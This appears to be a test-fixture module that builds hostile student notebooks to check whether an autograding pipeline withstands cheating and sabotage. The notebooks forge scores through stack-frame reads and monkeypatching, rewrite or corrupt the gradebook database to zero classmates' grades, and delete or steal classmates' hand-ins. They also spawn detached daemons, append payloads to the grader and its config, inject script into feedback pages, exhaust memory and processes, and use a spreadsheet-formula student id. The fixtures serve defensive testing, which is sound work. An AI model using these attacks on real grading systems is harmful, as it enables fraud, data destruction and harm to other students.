"""A hostile class for tests/test_hostile_class.py (issue 7): one hand-in of 02_regression per
attack family, next to honest students.

Every hand-in is a copy of the released notebook (exercises/02_regression/) whose answer cells
hold the attack. Answers are blank (``raise NotImplementedError()``) unless the attack needs a
function that returns a tensor (a wrong one: the attack then tries to make it pass) or a correct
one reached through a forbidden route (back doors). So no attacker deserves more than a blank
notebook.

Safety: the test may run against a pipeline whose defences are missing. Every attack that
writes, deletes or executes something outside its own kernel therefore acts only on paths inside
the test's temporary course (``Setting.root``), found by walking up from the working directory
and from ``lossgrader.__file__``, or by that absolute path; memory and processes are bounded
(``Setting.memory_cap``, 200 children that sleep 30 s); detached processes carry
``Setting.token`` in their command line so that the test can find and end them.
"""
import os
import textwrap
from dataclasses import dataclass

import nbformat

import hostile_notebooks as H

A = H.ASSIGNMENT
EXERCISES = ("mse", "mse_grad", "mae", "mae_grad", "huber", "smooth_l1")
SIGNATURE = {
    "mse": ("mse_loss", "pred, target"),
    "mse_grad": ("mse_grad", "pred, target"),
    "mae": ("mae_loss", "pred, target"),
    "mae_grad": ("mae_grad", "pred, target"),
    "huber": ("huber_loss", "pred, target, delta=1.0"),
    "smooth_l1": ("smooth_l1_loss", "pred, target, beta=1.0"),
}
GRAD_EXERCISES = ("mse_grad", "mae_grad")
# wrong on every case, yet a loss through which gradients flow to both inputs
WRONG_LOSS = "(pred * 0 + target * 0).sum() + 7.0"

HONEST = ("a_honest", "z_honest")      # graded first and last of the batch (names sort so)
PREGRADED = "a_honest"                 # graded once before the batch: a grade history to protect
BLANK = "blank"                        # the released notebook, unchanged
FORMULA_STUDENT = "=1+2*HYPERLINK(0)"   # a blank notebook under an id a spreadsheet would run


@dataclass(frozen=True)
class Setting:
    root: str          # absolute path of the test's course directory
    token: str         # unique marker of this run (detached processes, injected scripts)
    port: int          # the test's TCP listener on 127.0.0.1
    memory_cap: int    # bytes the memory hog allocates at most


# --------------------------------------------------------------------------- building blocks
def released(root):
    return nbformat.read(os.path.join(root, "exercises", A, A + ".ipynb"), as_version=4)


def blank_body(exercise):
    name, args = SIGNATURE[exercise]
    return f"def {name}({args}):\n    raise NotImplementedError()\n"


def wrong_body(exercise):
    """A function that returns a tensor of the right shape, dtype and device, wrong on every case."""
    name, args = SIGNATURE[exercise]
    if exercise in GRAD_EXERCISES:
        return f"def {name}({args}):\n    return torch.full_like(pred, 7.0)\n"
    return f"def {name}({args}):\n    return {WRONG_LOSS}\n"


def prelude(s: Setting, student):
    """Names every attack cell may use: the course copy, this run's token, and _mine(path)."""
    return textwrap.dedent(f"""\
        import os as _os
        import sys as _sys
        _COURSE = {s.root!r}
        _TOKEN = {s.token!r}
        _ME = {student!r}
        _A = {A!r}

        def _mine(path):
            real = _os.path.realpath(path)
            return real == _os.path.realpath(_COURSE) or real.startswith(_os.path.realpath(_COURSE) + _os.sep)

        def _roots():
            starts = [_os.getcwd(), _COURSE]
            try:
                import lossgrader as _lg
                starts.append(_os.path.dirname(_os.path.abspath(_lg.__file__)))
            except Exception:
                pass
            found = []
            for start in starts:
                d = _os.path.abspath(start)
                while True:
                    if (_os.path.isfile(_os.path.join(d, "nbgrader_config.py")) or
                            _os.path.exists(_os.path.join(d, "gradebook.db"))) and _mine(d) and d not in found:
                        found.append(d)
                    if _os.path.dirname(d) == d:
                        break
                    d = _os.path.dirname(d)
            return found
        """)


def notebook(s: Setting, student, bodies, extra_cells=()):
    """The released notebook with answer cells replaced: bodies maps exercise -> code."""
    nb = released(s.root)
    for ex in EXERCISES:
        code = bodies.get(ex, blank_body(ex))
        H.answer(nb, ex).source = "# 答案\n" + prelude(s, student) + "\n" + code
    for index, cell in extra_cells:
        nb.cells.insert(index, cell)
    return nb


def model_answers(root):
    """grade_id -> model answer of solutions/ (solution markers removed), as make_samples does."""
    import re

    src = nbformat.read(os.path.join(root, "solutions", A, A + ".ipynb"), as_version=4)
    marker = re.compile(r"^[ \t]*### (?:BEGIN|END) SOLUTION[ \t]*\n?", re.MULTILINE)
    out = {}
    for c in src.cells:
        meta = c.metadata.get("nbgrader", {})
        if c.cell_type == "code" and meta.get("solution") and not meta.get("grade"):
            out[meta["grade_id"]] = marker.sub("", c.source).rstrip("\n")
    return out


def honest(s: Setting, student=None):
    nb = released(s.root)
    answers = model_answers(s.root)
    for ex in EXERCISES:
        H.answer(nb, ex).source = answers[H.ANSWER_OF[ex]]
    return nb


def blank(s: Setting, student=None):
    return released(s.root)


# --------------------------------------------------------------------------- score forging
STACK_HELPERS = """
import gc
import inspect
import torch

def _from_frames(frame):
    while frame is not None:
        loc = frame.f_locals
        exp = loc.get("expected")
        if isinstance(exp, tuple) and len(exp) == 2 and isinstance(exp[0], torch.Tensor):
            return exp, loc.get("case")
        frame = frame.f_back
    return None, None

def _from_gc(exercise, args):
    for obj in gc.get_objects():
        try:
            if getattr(obj, "id", None) != exercise or not isinstance(getattr(obj, "_cache", None), dict):
                continue
            for cases, expectations in obj._cache.values():
                for case, exp in zip(cases, expectations):
                    tensors = [a for a in case.args if isinstance(a, torch.Tensor)]
                    if len(tensors) >= 2 and all(t.shape == a.shape and torch.equal(t, a.detach().cpu().to(t.dtype))
                                                 for t, a in zip(tensors, args)):
                        return exp, case
        except Exception:
            continue
    return None, None

def _forge(exp, case, args):
    value, grads = exp
    like = args[0]
    out = value.to(like.device, like.dtype).clone()
    positions = getattr(case, "grad_args", None) or range(len(grads))
    for i, g in zip(positions, grads):
        a = args[i]
        term = (a * g.to(a.device, a.dtype)).sum()
        out = out + term - term.detach()
    return out
"""


def stack_walk(s: Setting, student):
    """Reach the grader's expected values and gradients from inside the student's function:
    sys._getframe, inspect.stack(), inspect.currentframe() and gc (the registry's case cache)."""
    def body(ex, finder):
        name, args = SIGNATURE[ex]
        return STACK_HELPERS + textwrap.dedent(f"""
            def {name}({args}):
                exp, case = {finder}
                if exp is None:
                    raise NotImplementedError()
                return _forge(exp, case, (pred, target))
            """)
    return notebook(s, student, {
        "mse": body("mse", "_from_frames(_sys._getframe(1))"),
        "mse_grad": body("mse_grad", "_from_frames(inspect.stack()[1].frame)"),
        "mae": body("mae", "_from_gc('mae', (pred, target))"),
        "mae_grad": body("mae_grad", "_from_gc('mae_grad', (pred, target))"),
        "huber": body("huber", "_from_frames(inspect.currentframe().f_back)"),
        "smooth_l1": body("smooth_l1", "_from_gc('smooth_l1', (pred, target))"),
    })


COMPARE_HELPERS = """
import torch

def _grading(exercises):
    # patched only while the grader checks one of these exercises (or always, when no grader
    # frame is in sight): each cell's variant then scores on its own
    f = _sys._getframe(2)
    while f is not None:
        me = f.f_locals.get("self")
        if me is not None and hasattr(me, "func_name") and isinstance(getattr(me, "id", None), str):
            return me.id in exercises
        f = f.f_back
    return True

def _patch(owner, attr, fake, exercises):
    original = getattr(owner, attr)
    def patched(*args, **kwargs):
        if _grading(exercises):
            return fake(original, *args, **kwargs)
        return original(*args, **kwargs)
    setattr(owner, attr, patched)
"""


def patch_compare(s: Setting, student):
    """Wrong answers and monkeypatched torch operations a comparison relies on: Tensor.__le__,
    Tensor.__sub__, Tensor.all / __bool__, Tensor.abs, torch.allclose / isclose / equal /
    testing.assert_close."""
    def with_patch(ex, code):
        return COMPARE_HELPERS + code + "\n" + wrong_body(ex)
    true_like = "lambda orig, a, *r, **k: torch.ones_like(orig(a, *r, **k), dtype=torch.bool)"
    return notebook(s, student, {
        "mse": with_patch("mse", f"_patch(torch.Tensor, '__le__', {true_like}, ['mse'])\n"),
        "mse_grad": with_patch("mse_grad", "_patch(torch.Tensor, '__sub__', "
                                           "lambda orig, a, *r, **k: torch.zeros_like(orig(a, *r, **k)), ['mse_grad'])\n"),
        "mae": with_patch("mae", "_patch(torch.Tensor, 'all', lambda orig, a, *r, **k: torch.tensor(True), ['mae'])\n"
                                 "_patch(torch, 'allclose', lambda orig, *a, **k: True, ['mae'])\n"),
        "mae_grad": with_patch("mae_grad", "_patch(torch.Tensor, '__bool__', lambda orig, a: True, ['mae_grad'])\n"),
        "huber": with_patch("huber", "_patch(torch.Tensor, 'abs', "
                                     "lambda orig, a, *r, **k: torch.zeros_like(orig(a, *r, **k)), ['huber'])\n"),
        "smooth_l1": with_patch("smooth_l1",
                                "_patch(torch, 'isclose', lambda orig, a, *r, **k: torch.ones_like(a, dtype=torch.bool), ['smooth_l1'])\n"
                                "_patch(torch, 'equal', lambda orig, *a, **k: True, ['smooth_l1'])\n"
                                "_patch(torch.testing, 'assert_close', lambda orig, *a, **k: None, ['smooth_l1'])\n"),
    })


DISPLAY_HELPERS = """
def _is_report(obj, exercise):
    ex = getattr(obj, "exercise", None)
    return type(obj).__name__ == "Report" and getattr(ex, "id", None) == exercise

class _Forged:
    def __init__(self, report):
        self.report = report
    def __repr__(self):
        return repr(float(self.report.points))
    def _repr_html_(self):
        return self.report._repr_html_()
"""


def patch_display(s: Setting, student):
    """Wrong answers whose displayed score is forged: IPython's plain-text formatter (class
    patch, type printer registered during the check), the shell's display hook (instance patch
    and a one-shot 'quiet' with a forged result), sys.displayhook replaced while the test cell
    runs, DisplayFormatter.format, ast_node_interactivity."""
    return notebook(s, student, {
        "mse": DISPLAY_HELPERS + textwrap.dedent("""
            from IPython.core.formatters import PlainTextFormatter
            _plain = PlainTextFormatter.__call__
            def _plain_forged(self, obj):
                if _is_report(obj, "mse"):
                    return repr(float(obj.points))
                return _plain(self, obj)
            PlainTextFormatter.__call__ = _plain_forged
            """) + wrong_body("mse"),
        "mse_grad": DISPLAY_HELPERS + textwrap.dedent("""
            _hook = get_ipython().displayhook
            _write = _hook.write_format_data
            def _write_forged(format_dict, md_dict=None):
                if ">mse_grad</code>" in str(format_dict.get("text/html", "")):
                    format_dict = dict(format_dict, **{"text/plain": "1.0"})
                return _write(format_dict, md_dict)
            _hook.write_format_data = _write_forged
            """) + wrong_body("mse_grad"),
        "mae": DISPLAY_HELPERS + textwrap.dedent("""
            def mae_loss(pred, target):
                real = _sys.displayhook
                if not getattr(real, "_forging", False):
                    def forged(obj):
                        return real(_Forged(obj) if _is_report(obj, "mae") else obj)
                    forged._forging = True
                    _sys.displayhook = forged
                return (pred * 0 + target * 0).sum() + 7.0
            """),
        "mae_grad": DISPLAY_HELPERS + textwrap.dedent("""
            _fake = _Forged(type("R", (), {"points": 1.0,
                                           "_repr_html_": lambda self: '<div class="lossgrader-report">1</div>'})())
            def mae_grad(pred, target):
                shell = get_ipython()
                if not getattr(shell.displayhook, "_forged_once", False):
                    shell.displayhook._forged_once = True
                    shell.displayhook(_fake)
                    quiet = shell.displayhook.quiet
                    state = {"left": 1}
                    def hush():
                        if state["left"]:
                            state["left"] -= 1
                            return True
                        return quiet()
                    shell.displayhook.quiet = hush
                    shell.ast_node_interactivity = "none"
                return torch.full_like(pred, 7.0)
            """),
        "huber": DISPLAY_HELPERS + textwrap.dedent("""
            def huber_loss(pred, target, delta=1.0):
                report = _sys.modules.get("lossgrader.report")
                if report is not None:
                    get_ipython().display_formatter.formatters["text/plain"].for_type(
                        report.Report, lambda obj, p, cycle: p.text(repr(float(obj.points))
                                                                 if _is_report(obj, "huber") else repr(float(obj))))
                return (pred * 0 + target * 0).sum() + 7.0
            """),
        "smooth_l1": DISPLAY_HELPERS + textwrap.dedent("""
            from IPython.core.formatters import DisplayFormatter
            _format = DisplayFormatter.format
            def _format_forged(self, obj, include=None, exclude=None):
                data, meta = _format(self, obj, include, exclude)
                if _is_report(obj, "smooth_l1"):
                    data = dict(data, **{"text/plain": repr(float(obj.points))})
                return data, meta
            DisplayFormatter.format = _format_forged
            """) + wrong_body("smooth_l1"),
    })


def patch_grader(s: Setting, student):
    """Wrong answers that patch lossgrader's own objects from inside the function while check runs
    it: compare, CaseResult.passed, Report.__repr__/__float__, Report.__post_init__, CaseFailure,
    and the engine's round()."""
    def inside(ex, patch):
        name, args = SIGNATURE[ex]
        value = "torch.full_like(pred, 7.0)" if ex in GRAD_EXERCISES else WRONG_LOSS
        return ("import torch\n\n\n"
                f"def {name}({args}):\n"
                "    mods = {k: m for k, m in list(_sys.modules.items()) if k.startswith('lossgrader')}\n"
                "    try:\n"
                + textwrap.indent(textwrap.dedent(patch).strip("\n"), " " * 8) + "\n"
                "    except Exception:\n"
                "        pass\n"
                f"    return {value}\n")
    return notebook(s, student, {
        "mse": inside("mse", """
            for m in mods.values():
                if hasattr(m, "compare"):
                    m.compare = lambda *a, **k: None
            """),
        "mse_grad": inside("mse_grad", """
            mods["lossgrader.engine"].CaseResult.passed = property(lambda self: True)
            """),
        "mae": inside("mae", """
            R = mods["lossgrader.report"].Report
            R.__repr__ = lambda self: repr(float(self.points))
            R.__float__ = lambda self: float(self.points)
            """),
        "mae_grad": inside("mae_grad", """
            R = mods["lossgrader.report"].Report
            post = R.__post_init__
            def forced(self):
                self.score = self.points
                post(self)
            R.__post_init__ = forced
            """),
        "huber": inside("huber", """
            CF = mods["lossgrader.engine"].CaseFailure
            init = CF.__init__
            def passing(self, status, message, hint=None):
                init(self, "pass", message, hint)
            CF.__init__ = passing
            """),
        "smooth_l1": inside("smooth_l1", """
            mods["lossgrader.engine"].round = lambda x, n=None: 1.0
            """),
    })


def back_doors(s: Setting, student):
    """Correct values through routes the exercise forbids: torch._C._nn, torch.ops.aten,
    torch._C.DisableTorchFunction around the F built-in, the reference's unwrapped function
    (__wrapped__) and the reference found with gc.get_objects()."""
    return notebook(s, student, {
        "mse": "import torch\n\ndef mse_loss(pred, target):\n    return torch._C._nn.mse_loss(pred, target, 1)\n",
        "mse_grad": textwrap.dedent("""
            import lossgrader.references

            def mse_grad(pred, target):
                return lossgrader.references.mse_grad.__wrapped__(pred, target)
            """),
        "mae": "import torch\n\ndef mae_loss(pred, target):\n    return torch.ops.aten.l1_loss(pred, target, 1)\n",
        "mae_grad": textwrap.dedent("""
            import gc

            def mae_grad(pred, target):
                for obj in gc.get_objects():
                    try:
                        found = callable(obj) and getattr(obj, "__name__", "") == "mae_grad" and \\
                            getattr(obj, "__module__", "") == "lossgrader.references"
                    except Exception:
                        continue
                    if found:
                        raw = getattr(obj, "__wrapped_reference__", None) or getattr(obj, "__wrapped__", obj)
                        return raw(pred, target)
                raise NotImplementedError()
            """),
        "huber": textwrap.dedent("""
            import torch
            import torch.nn.functional as F

            def huber_loss(pred, target, delta=1.0):
                with torch._C.DisableTorchFunction():
                    return F.huber_loss(pred, target, delta=delta)
            """),
        "smooth_l1": textwrap.dedent("""
            import torch

            def smooth_l1_loss(pred, target, beta=1.0):
                return torch.ops.aten.smooth_l1_loss(pred, target, 1, beta)
            """),
    })


def evasive(s: Setting, student):
    """The score-forging families again, written without any construct a reader of the code would
    flag (no frames, gc, inspect, sys.modules, exec, private torch attributes): so that they test
    what is underneath such a scan, the trusted judge and the narrow channel. operator.attrgetter
    to torch._C._nn / torch.ops.aten, the grader's expected values read from
    traceback.StackSummary(capture_locals=True) at full print precision, a torch.Tensor subclass
    whose __torch_function__ makes every comparison true, a classmate's answer written to a
    module file and imported, and an unconditional Tensor.__le__ patch."""
    return notebook(s, student, {
        "mse": textwrap.dedent("""
            import operator
            import torch

            def mse_loss(pred, target):
                return operator.attrgetter("_C._nn.mse_loss")(torch)(pred, target, 1)
            """),
        "mse_grad": textwrap.dedent("""
            import re
            import traceback
            import torch

            _NUMBER = re.compile(r"[-+]?(?:\\d+\\.\\d*|\\d*\\.\\d+|\\d+)(?:e[-+]?\\d+)?")

            def mse_grad(pred, target):
                torch.set_printoptions(precision=17, threshold=10 ** 7, sci_mode=True, linewidth=10 ** 6)
                stack = traceback.StackSummary.extract(traceback.walk_stack(None), capture_locals=True)
                for summary in stack:
                    text = (summary.locals or {}).get("expected", "")
                    if text.startswith("(tensor("):
                        body = text[len("(tensor("):].split("dtype=")[0]
                        values = [float(v) for v in _NUMBER.findall(body)]
                        if len(values) == pred.numel():
                            return torch.tensor(values, dtype=pred.dtype, device=pred.device).reshape(pred.shape)
                raise NotImplementedError()
            """),
        "mae": textwrap.dedent("""
            import operator
            import torch

            def mae_loss(pred, target):
                return operator.attrgetter("ops.aten.l1_loss")(torch)(pred, target, 1)
            """),
        "mae_grad": textwrap.dedent("""
            import torch

            class _Agreeable(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    name = getattr(func, "__name__", "")
                    result = super().__torch_function__(func, types, args, kwargs or {})
                    if name in ("allclose", "equal"):
                        return True
                    if name.strip("_") in ("le", "lt", "ge", "gt", "eq", "isclose", "all") and \\
                            isinstance(result, torch.Tensor):
                        return torch.ones(result.shape, dtype=torch.bool)
                    return result

            def mae_grad(pred, target):
                return torch.full_like(pred, 7.0).as_subclass(_Agreeable)
            """),
        "huber": textwrap.dedent("""
            import glob
            import json

            def _steal_huber():
                for r in _roots():
                    for path in sorted(glob.glob(_os.path.join(r, "submitted", "*", _A, _A + ".ipynb"))):
                        if path.split(_os.sep)[-3].startswith("x_"):
                            continue
                        with open(path, encoding="utf-8") as fh:
                            for c in json.load(fh)["cells"]:
                                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "answer_huber":
                                    with open("_stolen_huber.py", "w", encoding="utf-8") as out:
                                        out.write("import torch\\n" + "".join(c["source"]))
                                    return True
                return False

            if _steal_huber():
                from _stolen_huber import huber_loss
            else:
                def huber_loss(pred, target, delta=1.0):
                    raise NotImplementedError()
            """),
        "smooth_l1": textwrap.dedent("""
            import torch
            _le = torch.Tensor.__le__
            torch.Tensor.__le__ = lambda a, b: _le(a, b) | True
            """) + wrong_body("smooth_l1"),
    })


# --------------------------------------------------------------------------- the gradebook and files
GRADE_SQL = """
import sqlite3
import time

_MINE_SQL = ("SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
             "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
             "WHERE submitted_assignment.student_id = ?")

def _set_grades(db, me, victims):
    for attempt in range(5):
        try:
            con = sqlite3.connect(db, timeout=10)
            con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                        "WHERE grade_cells.id = grade.cell_id), extra_credit = 5, needs_manual_grade = 0 "
                        "WHERE grade.id IN (" + _MINE_SQL + ")", (me,))
            for victim in victims:
                con.execute("UPDATE grade SET manual_score = 0, needs_manual_grade = 0 "
                            "WHERE grade.id IN (" + _MINE_SQL + ")", (victim,))
            con.commit()
            con.close()
            return True
        except Exception:
            time.sleep(1)
    return False

def _gradebooks():
    return [_os.path.join(r, "gradebook.db") for r in _roots() if _os.path.isfile(_os.path.join(r, "gradebook.db"))]
"""


def gradebook_corrupt(s: Setting, student):
    """Overwrite every gradebook.db it finds (walking up from cwd and lossgrader.__file__, and the
    absolute path) with garbage, at the top of a cell and again inside the student's function."""
    wreck = textwrap.dedent("""
        def _wreck():
            for r in _roots():
                db = _os.path.join(r, "gradebook.db")
                if _os.path.isfile(db):
                    try:
                        with open(db, "r+b") as fh:
                            fh.write(b"this is no longer a SQLite database " * 4096)
                            fh.truncate()
                    except OSError:
                        pass
        _wreck()
        """)
    return notebook(s, student, {
        "mse": wreck + "\ndef mse_loss(pred, target):\n    _wreck()\n    raise NotImplementedError()\n",
    })


def gradebook_delete(s: Setting, student):
    """Delete every gradebook.db it finds (and its journals), put a directory in its place."""
    delete = textwrap.dedent("""
        def _delete():
            for r in _roots():
                for name in ("gradebook.db", "gradebook.db-journal", "gradebook.db-wal"):
                    path = _os.path.join(r, name)
                    try:
                        _os.remove(path)
                    except OSError:
                        pass
                try:
                    _os.makedirs(_os.path.join(r, "gradebook.db"), exist_ok=True)
                except OSError:
                    pass
        _delete()
        """)
    return notebook(s, student, {
        "mse": delete + "\ndef mse_loss(pred, target):\n    _delete()\n    raise NotImplementedError()\n",
    })


def gradebook_sql(s: Setting, student):
    """Write the gradebook with sqlite3: its own manual_score to the maximum (nbgrader never
    overwrites a manual score) plus extra credit, the honest classmates' to 0."""
    victims = list(HONEST)
    return notebook(s, student, {
        "mse": GRADE_SQL + f"\nfor _db in _gradebooks():\n    _set_grades(_db, _ME, {victims!r})\n",
        "mae": GRADE_SQL + textwrap.dedent(f"""
            def mae_loss(pred, target):
                for db in _gradebooks():
                    _set_grades(db, _ME, {victims!r})
                raise NotImplementedError()
            """),
    })


def overwrite_submitted(s: Setting, student):
    """Overwrite the honest classmates' hand-ins in submitted/ with the released (blank) notebook
    before they are graded, and drop a file next to them (attackers are spared, so that their own
    attacks still run when the defences are missing)."""
    return notebook(s, student, {
        "mse": textwrap.dedent("""
            import glob
            for _r in _roots():
                _blank = _os.path.join(_r, "exercises", _A, _A + ".ipynb")
                for _path in glob.glob(_os.path.join(_r, "submitted", "*", _A, _A + ".ipynb")):
                    if _path.split(_os.sep)[-3].startswith("x_") or not _os.path.isfile(_blank):
                        continue
                    try:
                        with open(_blank, encoding="utf-8") as _src, open(_path, "w", encoding="utf-8") as _dst:
                            _dst.write(_src.read())
                        with open(_os.path.join(_os.path.dirname(_path), "overwritten.txt"), "w") as _fh:
                            _fh.write(_ME)
                    except OSError:
                        pass
            """),
    })


def delete_autograded(s: Setting, student):
    """Delete the honest classmates' autograded/ copies (and feedback/), at the top of a cell and
    from inside the student's function."""
    code = textwrap.dedent("""
        import glob
        import shutil

        def _delete_others():
            for r in _roots():
                for top in ("autograded", "feedback"):
                    for d in glob.glob(_os.path.join(r, top, "*")):
                        if not _os.path.basename(d).startswith("x_"):
                            shutil.rmtree(d, ignore_errors=True)
        _delete_others()
        """)
    return notebook(s, student, {
        "mse": code,
        "mae": code + "\ndef mae_loss(pred, target):\n    _delete_others()\n    raise NotImplementedError()\n",
    })


def copy_classmates(s: Setting, student):
    """Read the classmates' hand-ins at grading time, run each one's answer through check and
    keep the best (honest classmates only: the attackers' cells would attack this kernel)."""
    helper = textwrap.dedent("""
        import glob
        import json
        import torch
        import torch.nn as nn
        import torch.nn.functional as F

        def _steal(grade_id, exercise, func_name):
            best, best_score = None, -1.0
            for r in _roots():
                for path in sorted(glob.glob(_os.path.join(r, "submitted", "*", _A, _A + ".ipynb")) +
                                   glob.glob(_os.path.join(r, "autograded", "*", _A, _A + ".ipynb"))):
                    who = path.split(_os.sep)[-3]
                    if who == _ME or who.startswith("x_"):
                        continue
                    try:
                        with open(path, encoding="utf-8") as fh:
                            cells = json.load(fh)["cells"]
                        for c in cells:
                            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != grade_id:
                                continue
                            ns = {"torch": torch, "nn": nn, "F": F}
                            exec("".join(c["source"]), ns)
                            score = float(check(exercise, ns[func_name]))
                            if score > best_score:
                                best, best_score = ns[func_name], score
                    except Exception:
                        continue
            return best
        """)
    bodies = {}
    for ex in EXERCISES:
        name, args = SIGNATURE[ex]
        bodies[ex] = helper + textwrap.dedent(f"""
            {name} = _steal({H.ANSWER_OF[ex]!r}, {ex!r}, {name!r})
            if {name} is None:
                def {name}({args}):
                    raise NotImplementedError()
            """)
    return notebook(s, student, bodies)


DAEMON = r"""
import os, sqlite3, sys, time
token, course, me = sys.argv[1], sys.argv[2], sys.argv[3]
victims = sys.argv[4:]
mine = ("SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
        "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
        "WHERE submitted_assignment.student_id = ?")
started = time.time()
time.sleep(20)
while time.time() - started < 1800 and os.path.isdir(course):
    try:
        with open(os.path.join(course, "DETACHED_" + token + ".txt"), "a") as fh:
            fh.write("%s %.0f\n" % (me, time.time() - started))
    except OSError:
        pass
    try:
        con = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=5)
        con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = "
                    "grade.cell_id) WHERE grade.id IN (" + mine + ")", (me,))
        for v in victims:
            con.execute("UPDATE grade SET manual_score = 0 WHERE grade.id IN (" + mine + ")", (v,))
        con.commit()
        con.close()
    except Exception:
        pass
    time.sleep(2)
"""


def detached(s: Setting, student):
    """Start processes that outlive the grading (a double fork with setsid, and nohup in a new
    session); 20 s later and then every 2 s they write the gradebook (own manual_score to the
    maximum, honest classmates' to 0) and a file in the course directory, for up to 30 minutes."""
    victims = list(HONEST)
    return notebook(s, student, {
        "mse": textwrap.dedent(f"""
            import subprocess
            _DAEMON = {DAEMON!r}
            _argv = [_sys.executable, "-c", _DAEMON, _TOKEN, _COURSE, _ME] + {victims!r}

            def _double_fork():
                pid = _os.fork()
                if pid:
                    _os.waitpid(pid, 0)
                    return
                try:
                    _os.setsid()
                    if _os.fork():
                        _os._exit(0)
                    null = _os.open(_os.devnull, _os.O_RDWR)
                    for fd in (0, 1, 2):
                        _os.dup2(null, fd)
                    _os.execv(_sys.executable, _argv)
                finally:
                    _os._exit(0)
            _double_fork()
            """),
        "mae": textwrap.dedent(f"""
            import subprocess
            _DAEMON = {DAEMON!r}
            subprocess.Popen(["nohup", _sys.executable, "-c", _DAEMON, _TOKEN, _COURSE, _ME] + {victims!r},
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             start_new_session=True, close_fds=True)
            """),
    })


def rewrite_grader(s: Setting, student):
    """Rewrite the installed grader (found through the import system and the path) so that every
    later check gives full marks, and nbgrader_config.py so that the next command that loads the
    configuration (feedback, export, the next batch) gives this student full marks."""
    config_payload = (
        "\n# course settings\n"
        "try:\n"
        "    import sqlite3 as _sq\n"
        "    _con = _sq.connect(os.path.join(_ROOT, 'gradebook.db'), timeout=5)\n"
        "    _con.execute(\"UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE \"\n"
        "                 \"grade_cells.id = grade.cell_id) WHERE grade.notebook_id IN (SELECT submitted_notebook.id \"\n"
        "                 \"FROM submitted_notebook JOIN submitted_assignment ON submitted_notebook.assignment_id = \"\n"
        f"                 \"submitted_assignment.id WHERE submitted_assignment.student_id = '{student}')\")\n"
        "    _con.commit()\n"
        "    _con.close()\n"
        "except Exception:\n"
        "    pass\n")
    engine_payload = (
        "\n\n_original_check = check\n\n\n"
        "def check(exercise, solution, *, points=1.0, **kwargs):\n"
        "    report = _original_check(exercise, solution, points=points, **kwargs)\n"
        "    report.score = points\n"
        "    return report\n")
    report_payload = "\n\nReport.__repr__ = lambda self: repr(float(self.points))\n"
    code = textwrap.dedent(f"""
        import importlib.util
        _payload = {{"engine.py": {engine_payload!r}, "report.py": {report_payload!r}}}
        _dirs = []
        try:
            _spec = importlib.util.find_spec("lossgrader")
            _dirs.append(_os.path.dirname(_spec.origin))
        except Exception:
            pass
        for _r in _roots():
            _dirs.append(_os.path.join(_r, "lossgrader"))
        for _d in dict.fromkeys(_os.path.realpath(d) for d in _dirs):
            for _name, _text in _payload.items():
                _path = _os.path.join(_d, _name)
                if _mine(_path) and _os.path.isfile(_path):
                    try:
                        with open(_path, "a", encoding="utf-8") as _fh:
                            _fh.write(_text)
                    except OSError:
                        pass
        for _r in _roots():
            _cfg = _os.path.join(_r, "nbgrader_config.py")
            if _os.path.isfile(_cfg):
                try:
                    with open(_cfg, "a", encoding="utf-8") as _fh:
                        _fh.write({config_payload!r})
                except OSError:
                    pass
        """)
    return notebook(s, student, {"mse": code})


# --------------------------------------------------------------------------- output, resources, network
def huge_output(s: Setting, student):
    """A 20 MB display() of HTML from inside the student's function, and a 20 MB print at the top
    of an answer cell."""
    return notebook(s, student, {
        "mse": textwrap.dedent("""
            from IPython.display import HTML, display
            _shown = []

            def mse_loss(pred, target):
                if not _shown:
                    _shown.append(1)
                    display(HTML('<div class="hostile-huge">' + "x" * 20_000_000 + "</div>"))
                return (pred * 0 + target * 0).sum() + 7.0
            """),
        "mae": "print(('y' * 99 + '\\n') * 200_000)\n" + blank_body("mae"),
    })


def html_js(s: Setting, student):
    """Script and event handlers in the feedback page: display(HTML(<script>)), Javascript, SVG
    onload, an iframe srcdoc, from a cell and from inside the function, and a markdown cell with
    <img onerror>, <script> and a javascript: link. Each payload sets window.__hostile_<token>."""
    flag = f"window.__hostile_{s.token}"
    md = nbformat.v4.new_markdown_cell(
        f'一个普通的说明。\n\n<img src="x" onerror="{flag} = 1">\n\n<script>{flag} = 2</script>\n\n'
        f'[点我](javascript:{flag}=3)\n')
    return notebook(s, student, {
        "mse": textwrap.dedent(f"""
            from IPython.display import HTML, SVG, Javascript, display
            display(HTML("<script>{flag} = 4</script>"))
            display(Javascript("{flag} = 5"))
            display(HTML('<iframe srcdoc="<script>{flag} = 6</script>"></iframe>'))
            display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="{flag} = 7"><rect width="1" height="1"/></svg>'))
            """) + blank_body("mse"),
        "mae": textwrap.dedent(f"""
            from IPython.display import HTML, display
            _shown = []

            def mae_loss(pred, target):
                if not _shown:
                    _shown.append(1)
                    display(HTML('<img src="x" onerror="{flag} = 8"><script>{flag} = 9</script>'))
                    print('<script>{flag} = 10</script>')
                return (pred * 0 + target * 0).sum() + 7.0
            """),
    }, extra_cells=[(2, md)])


def memory_hog(s: Setting, student):
    """Allocate (and touch) memory in 256 MiB steps up to Setting.memory_cap, then let it go."""
    return notebook(s, student, {
        "mse": textwrap.dedent(f"""
            def _hog(cap):
                held, step = [], 256 << 20
                try:
                    while len(held) * step < cap:
                        held.append(bytearray(b"\\x01") * step)
                except MemoryError:
                    pass
                return len(held) * step
            print("allocated MiB:", _hog({s.memory_cap}) >> 20)
            """),
    })


def fork_loop(s: Setting, student):
    """Fork up to 200 children that sleep 30 s each (stops at the first refused fork)."""
    return notebook(s, student, {
        "mse": textwrap.dedent("""
            import time
            _children = 0
            for _ in range(200):
                try:
                    _pid = _os.fork()
                except OSError:
                    break
                if _pid == 0:
                    try:
                        time.sleep(30)
                    finally:
                        _os._exit(0)
                _children += 1
            print("children:", _children)
            """),
    })


